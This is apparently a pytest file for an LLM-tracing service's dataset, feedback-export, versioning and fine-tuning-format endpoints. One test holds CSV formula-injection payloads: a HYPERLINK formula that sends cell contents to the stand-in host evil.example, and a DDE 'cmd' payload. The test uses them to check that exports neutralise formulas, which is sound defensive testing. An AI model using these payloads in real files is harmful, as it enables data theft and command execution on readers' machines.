"""Datasets and exports end to end: reviews with corrections → a dataset from a filter → every format."""

from __future__ import annotations

import csv
import io
import json

import pyarrow.parquet as pq
import pytest

from tests.factories import run_payload


def _chat_run(i: int, quality_answer: str) -> dict:
    return run_payload(
        name="support_chat",
        inputs={
            "messages": [
                {"role": "system", "content": "You are Lumio support."},
                {"role": "user", "content": f"Question {i}: where is order #{1000 + i}?"},
            ]
        },
        outputs={"answer": quality_answer},
        metadata={"eval_score": 0.3},
    )


@pytest.fixture
def reviewed(client, make_user):
    """Six chat runs in a queue; a reviewer marks four good (one corrected) and two bad."""
    client.post(
        "/api/v1/feedback-configs",
        json={"key": "overall_quality", "type": "categorical", "options": ["good", "acceptable", "bad"]},
    )
    rev = make_user("reviewer")
    queue = client.post(
        "/api/v1/queues",
        json={
            "name": "q",
            "rubric": [{"key": "overall_quality", "required": True}],
            "reviewers": [str(rev.id)],
        },
    ).json()
    runs = [_chat_run(i, f"It ships on day {i}.") for i in range(6)]
    client.post("/api/v1/runs/batch", json={"post": runs})
    client.post(f"/api/v1/queues/{queue['id']}/items", json={"run_ids": [r["id"] for r in runs]})
    verdicts = {}
    while (view := client.post(f"/api/v1/queues/{queue['id']}/next", headers=rev.headers)).status_code == 200:
        run = view.json()["runs"][0]
        index = int(run["inputs"]["messages"][1]["content"].split()[1].rstrip(":"))
        verdict = "good" if index < 4 else "bad"
        body = {"answers": {"overall_quality": verdict}}
        if index == 0:
            body["correction"] = {"answer": "It ships tomorrow, tracking number in your email."}
        client.post(f"/api/v1/items/{view.json()['item']['id']}/submit", json=body, headers=rev.headers)
        verdicts[run["id"]] = verdict
    return {"runs": runs, "queue": queue, "reviewer": rev, "verdicts": verdicts}


def test_dataset_from_a_filter_with_corrections_and_every_export_format(client, reviewed):
    dataset = client.post("/api/v1/datasets", json={"name": "rag-good", "description": "verified"}).json()
    added = client.post(
        f"/api/v1/datasets/{dataset['id']}/examples",
        json={
            "filter": 'feedback.overall_quality == "good"',
            "split_proportions": {"train": 0.5, "test": 0.5},
        },
    ).json()
    assert added == {"added": 4, "already_present": 0, "version": 1}
    again = client.post(
        f"/api/v1/datasets/{dataset['id']}/examples", json={"filter": 'feedback.overall_quality == "good"'}
    ).json()
    assert again["added"] == 0 and again["already_present"] == 4

    examples = client.get(f"/api/v1/datasets/{dataset['id']}/examples").json()["items"]
    assert len(examples) == 4
    corrected = next(e for e in examples if e["source_run_id"] == reviewed["runs"][0]["id"])
    assert corrected["outputs"] == {"answer": "It ships tomorrow, tracking number in your email."}
    assert corrected["metadata"]["corrected"] is True
    assert corrected["metadata"]["reviewers"] == [str(reviewed["reviewer"].id)]
    assert corrected["metadata"]["queues"] == [reviewed["queue"]["id"]]
    assert corrected["metadata"]["rubric_versions"] == [1]
    assert {e["split"] for e in examples} <= {"train", "test"}

    base = f"/api/v1/datasets/{dataset['id']}/export"
    jsonl = client.get(base, params={"format": "jsonl"})
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    lines = [json.loads(line) for line in jsonl.text.splitlines()]
    assert len(lines) == 4
    assert set(lines[0]) >= {"id", "inputs", "outputs", "metadata", "split", "source_run_id"}

    chat = [json.loads(line) for line in client.get(base, params={"format": "openai-chat"}).text.splitlines()]
    assert len(chat) == 4
    for line in chat:
        assert list(line) == ["messages"]
        roles = [m["role"] for m in line["messages"]]
        assert roles == ["system", "user", "assistant"]
        assert all(isinstance(m["content"], str) and m["content"] for m in line["messages"])
    assert any(m["content"].startswith("It ships tomorrow") for line in chat for m in line["messages"])

    rows = list(csv.DictReader(io.StringIO(client.get(base, params={"format": "csv"}).text)))
    assert len(rows) == 4
    assert json.loads(rows[0]["inputs"])["messages"][0]["role"] == "system"

    table = pq.read_table(io.BytesIO(client.get(base, params={"format": "parquet"}).content))
    assert table.num_rows == 4
    assert sorted(table.column("id").to_pylist()) == sorted(line["id"] for line in lines)
    assert sorted(json.loads(v)["answer"] for v in table.column("outputs").to_pylist()) == sorted(
        line["outputs"]["answer"] for line in lines
    )


def test_feedback_export_rows_and_pivot(client, reviewed, make_user):
    other = make_user("member")
    first = reviewed["runs"][0]["id"]
    client.post(
        "/api/v1/feedback",
        json={"run_id": first, "key": "overall_quality", "value": "acceptable"},
        headers=other.headers,
    )
    rows = [
        json.loads(line)
        for line in client.get(
            "/api/v1/exports/feedback", params={"key": "overall_quality"}
        ).text.splitlines()
    ]
    assert len(rows) == 7
    human = [r for r in rows if r["source"] == "human"]
    assert {r["author"] for r in human} == {reviewed["reviewer"].email}
    assert all(r["queue"] == "q" and r["rubric_version"] == 1 for r in human)
    assert set(rows[0]) >= {
        "run_id",
        "trace_id",
        "input",
        "output",
        "key",
        "score",
        "value",
        "comment",
        "correction",
        "source",
        "author",
        "queue",
        "rubric_version",
        "created_at",
    }

    pivot = list(
        csv.DictReader(
            io.StringIO(
                client.get(
                    "/api/v1/exports/feedback",
                    params={"pivot": "true", "format": "csv", "key": "overall_quality"},
                ).text
            )
        )
    )
    assert len(pivot) == 6
    row = next(r for r in pivot if r["run_id"] == first)
    assert row[f"{reviewed['reviewer'].email}:overall_quality"] == "good"
    assert row[f"{other.email}:overall_quality"] == "acceptable"

    filtered = client.get(
        "/api/v1/exports/feedback", params={"filter": f'id == "{first}"', "format": "parquet"}
    )
    assert pq.read_table(io.BytesIO(filtered.content)).num_rows == 2
    bad = client.get("/api/v1/exports/feedback", params={"filter": "id ==", "format": "csv"})
    assert bad.status_code == 400 and bad.json()["error"]["field"] == "filter"
    assert (
        client.get("/api/v1/exports/feedback", params={"format": "xml"}).json()["error"]["field"] == "format"
    )


def test_versions_and_tags_read_back_as_they_were(client):
    dataset = client.post("/api/v1/datasets", json={"name": "versions"}).json()
    client.post(
        f"/api/v1/datasets/{dataset['id']}/examples",
        json={
            "examples": [
                {"inputs": {"q": "a"}, "outputs": {"a": "1"}},
                {"inputs": {"q": "b"}, "outputs": {"a": "2"}},
            ]
        },
    )
    assert client.post(f"/api/v1/datasets/{dataset['id']}/tags", json={"tag": "v1"}).json() == {
        "tag": "v1",
        "version": 1,
    }
    (first, second) = sorted(
        client.get(f"/api/v1/datasets/{dataset['id']}/examples").json()["items"],
        key=lambda e: e["inputs"]["q"],
    )
    edited = client.patch(
        f"/api/v1/datasets/{dataset['id']}/examples/{first['id']}", json={"outputs": {"a": "one"}}
    )
    assert edited.json()["version"] == 2
    client.delete(f"/api/v1/datasets/{dataset['id']}/examples/{second['id']}")

    latest = client.get(f"/api/v1/datasets/{dataset['id']}/examples").json()["items"]
    assert [e["outputs"] for e in latest] == [{"a": "one"}]
    v1 = client.get(f"/api/v1/datasets/{dataset['id']}/examples", params={"tag": "v1"}).json()["items"]
    assert sorted(e["outputs"]["a"] for e in v1) == ["1", "2"]
    by_number = client.get(f"/api/v1/datasets/{dataset['id']}/examples", params={"version": 2}).json()[
        "items"
    ]
    assert sorted(e["outputs"]["a"] for e in by_number) == ["2", "one"]
    exported = client.get(f"/api/v1/datasets/{dataset['id']}/export", params={"tag": "v1"})
    assert len(exported.text.splitlines()) == 2
    info = client.get(f"/api/v1/datasets/{dataset['id']}").json()
    assert info["version"] == 3 and info["tags"] == {"latest": 3, "v1": 1} and info["example_count"] == 1
    missing = client.get(f"/api/v1/datasets/{dataset['id']}/examples", params={"tag": "nope"})
    assert missing.status_code == 404


def test_splits_are_deterministic(client):
    dataset = client.post("/api/v1/datasets", json={"name": "splits"}).json()
    runs = [run_payload() for _ in range(40)]
    client.post("/api/v1/runs/batch", json={"post": runs})
    client.post(f"/api/v1/datasets/{dataset['id']}/examples", json={"run_ids": [r["id"] for r in runs]})
    first = client.post(
        f"/api/v1/datasets/{dataset['id']}/splits", json={"split_proportions": {"train": 0.8, "test": 0.2}}
    ).json()
    assert first["changed"] == 40
    splits = {
        e["source_run_id"]: e["split"]
        for e in client.get(f"/api/v1/datasets/{dataset['id']}/examples", params={"limit": 100}).json()[
            "items"
        ]
    }
    assert 20 <= sum(s == "train" for s in splits.values()) <= 39
    again = client.post(
        f"/api/v1/datasets/{dataset['id']}/splits", json={"split_proportions": {"train": 0.8, "test": 0.2}}
    ).json()
    assert again["changed"] == 0  # re-running never shuffles
    bad = client.post(f"/api/v1/datasets/{dataset['id']}/splits", json={"split_proportions": {"train": 0.5}})
    assert bad.status_code == 400 and bad.json()["error"]["field"] == "split_proportions"


def test_a_reviewers_correction_goes_into_the_queues_default_dataset(client, make_user):
    rev = make_user("reviewer")
    client.post("/api/v1/feedback-configs", json={"key": "ok", "type": "boolean"})
    dataset = client.post("/api/v1/datasets", json={"name": "corrections"}).json()
    queue = client.post(
        "/api/v1/queues",
        json={
            "name": "fixes",
            "rubric": ["ok"],
            "reviewers": [str(rev.id)],
            "default_dataset_id": dataset["id"],
        },
    ).json()
    assert queue["default_dataset_id"] == dataset["id"]
    runs = [run_payload(outputs={"answer": "wrong"}) for _ in range(2)]
    client.post("/api/v1/runs/batch", json={"post": runs})
    client.post(f"/api/v1/queues/{queue['id']}/items", json={"run_ids": [r["id"] for r in runs]})
    first = client.post(f"/api/v1/queues/{queue['id']}/next", headers=rev.headers).json()
    client.post(
        f"/api/v1/items/{first['item']['id']}/submit",
        headers=rev.headers,
        json={"answers": {"ok": False}, "correction": {"answer": "right"}},
    )
    second = client.post(f"/api/v1/queues/{queue['id']}/next", headers=rev.headers).json()
    client.post(
        f"/api/v1/items/{second['item']['id']}/submit", headers=rev.headers, json={"answers": {"ok": True}}
    )
    examples = client.get(f"/api/v1/datasets/{dataset['id']}/examples").json()["items"]
    assert [(e["source_run_id"], e["outputs"]) for e in examples] == [
        (first["runs"][0]["id"], {"answer": "right"})
    ]
    # Amending the correction refreshes the same example rather than adding a second one.
    client.post(
        f"/api/v1/items/{first['item']['id']}/submit",
        headers=rev.headers,
        json={"answers": {"ok": False}, "correction": {"answer": "more right"}},
    )
    examples = client.get(f"/api/v1/datasets/{dataset['id']}/examples").json()["items"]
    assert [e["outputs"] for e in examples] == [{"answer": "more right"}]
    bad = client.patch(f"/api/v1/queues/{queue['id']}", json={"default_dataset_id": str(rev.id)})
    assert bad.status_code == 400 and bad.json()["error"]["field"] == "default_dataset_id"


def test_client_chosen_ids_are_kept_once(client):
    import uuid

    queue_id, example_id = str(uuid.uuid4()), str(uuid.uuid4())
    client.post("/api/v1/feedback-configs", json={"key": "ok", "type": "boolean"})
    assert (
        client.post("/api/v1/queues", json={"id": queue_id, "name": "mine", "rubric": ["ok"]}).json()["id"]
        == queue_id
    )
    assert (
        client.post("/api/v1/queues", json={"id": queue_id, "name": "again", "rubric": ["ok"]}).status_code
        == 409
    )
    dataset = client.post("/api/v1/datasets", json={"name": "ids"}).json()
    body = {"examples": [{"id": example_id, "inputs": {"q": 1}, "outputs": {"a": 1}}]}
    client.post(f"/api/v1/datasets/{dataset['id']}/examples", json=body)
    (example,) = client.get(f"/api/v1/datasets/{dataset['id']}/examples").json()["items"]
    assert example["id"] == example_id
    again = client.post(f"/api/v1/datasets/{dataset['id']}/examples", json=body)
    assert again.status_code == 409 and again.json()["error"]["field"] == "examples"


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_csv_exports_neutralise_formulas_and_write_plain_timestamps(client, make_user):
    """Formula injection through every user-written text that reaches a CSV export."""
    from datetime import datetime

    client.post("/api/v1/feedback-configs", json={"key": "note", "type": "freeform"})
    run = run_payload(project=FORMULAS[0], name="=cmd|' /C calc'!A0")
    client.post("/api/v1/runs/batch", json={"post": [run]})
    for text in FORMULAS:
        response = client.post(
            "/api/v1/feedback", json={"run_id": run["id"], "key": "note", "value": text, "comment": text}
        )
        assert response.status_code in (200, 201), response.text
    rows = list(
        csv.DictReader(io.StringIO(client.get("/api/v1/exports/feedback", params={"format": "csv"}).text))
    )
    assert len(rows) == len(FORMULAS)
    assert sorted(r["comment"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert sorted(r["value"] for r in rows) == sorted("'" + t for t in FORMULAS)
    assert {r["project"] for r in rows} == {"'" + FORMULAS[0]}
    for row in rows:
        assert not row["created_at"].startswith('"')
        assert datetime.fromisoformat(row["created_at"]).tzinfo is not None
    pivot = client.get("/api/v1/exports/feedback", params={"format": "csv", "pivot": "true"}).text
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for r in csv.reader(io.StringIO(pivot))
        for cell in r
    )

    dataset = client.post("/api/v1/datasets", json={"name": "formulas"}).json()
    examples = [{"inputs": {"q": t}, "outputs": {"a": t}, "split": t} for t in FORMULAS]
    added = client.post(f"/api/v1/datasets/{dataset['id']}/examples", json={"examples": examples})
    assert added.status_code in (200, 201), added.text
    text = client.get(f"/api/v1/datasets/{dataset['id']}/export", params={"format": "csv"}).text
    exported = list(csv.DictReader(io.StringIO(text)))
    assert sorted(r["split"] for r in exported) == sorted("'" + t for t in FORMULAS)
    assert {json.loads(r["inputs"])["q"] for r in exported} == set(FORMULAS)  # JSON cells keep the text


def test_openai_finetuning_reads_langchain_messages_and_refuses_when_nothing_converts(client):
    """LangChain-traced runs keep messages as serialized objects; the LangSmith endpoint the SDK's
    read_dataset_openai_finetuning calls converts them, and says why when nothing converts."""

    def lc(name: str, content: str) -> dict:
        kwargs = {"content": content, "type": {"HumanMessage": "human", "SystemMessage": "system"}[name]}
        return {
            "lc": 1,
            "type": "constructor",
            "id": ["langchain", "schema", "messages", name],
            "kwargs": kwargs,
        }

    generations = {
        "generations": [
            [
                {
                    "text": "Hold reset for 10 s.",
                    "type": "ChatGeneration",
                    "message": {
                        "lc": 1,
                        "type": "constructor",
                        "id": ["langchain", "schema", "messages", "AIMessage"],
                        "kwargs": {"content": "Hold reset for 10 s.", "type": "ai"},
                    },
                }
            ]
        ],
        "llm_output": None,
        "type": "LLMResult",
    }
    dataset = client.post("/api/v1/datasets", json={"name": "lc-chat"}).json()
    client.post(
        f"/api/v1/datasets/{dataset['id']}/examples",
        json={
            "examples": [
                {
                    "inputs": {
                        "messages": [[lc("SystemMessage", "Be brief."), lc("HumanMessage", "Reset?")]]
                    },
                    "outputs": generations,
                }
            ]
        },
    )
    ft = client.get(f"/langsmith/datasets/{dataset['id']}/openai_ft")
    assert ft.status_code == 200
    [line] = [json.loads(text) for text in ft.text.splitlines()]
    assert line == {
        "messages": [
            {"role": "system", "content": "Be brief."},
            {"role": "user", "content": "Reset?"},
            {"role": "assistant", "content": "Hold reset for 10 s."},
        ]
    }
    empty = client.post("/api/v1/datasets", json={"name": "no-chat"}).json()
    client.post(
        f"/api/v1/datasets/{empty['id']}/examples",
        json={"examples": [{"inputs": {"n": 1}, "outputs": {"score": 2}}]},
    )
    refused = client.get(f"/langsmith/datasets/{empty['id']}/openai_ft")
    assert refused.status_code == 400
    assert refused.json()["error"]["field"] == "format"
    assert "inputs hold no chat messages" in refused.json()["error"]["message"]
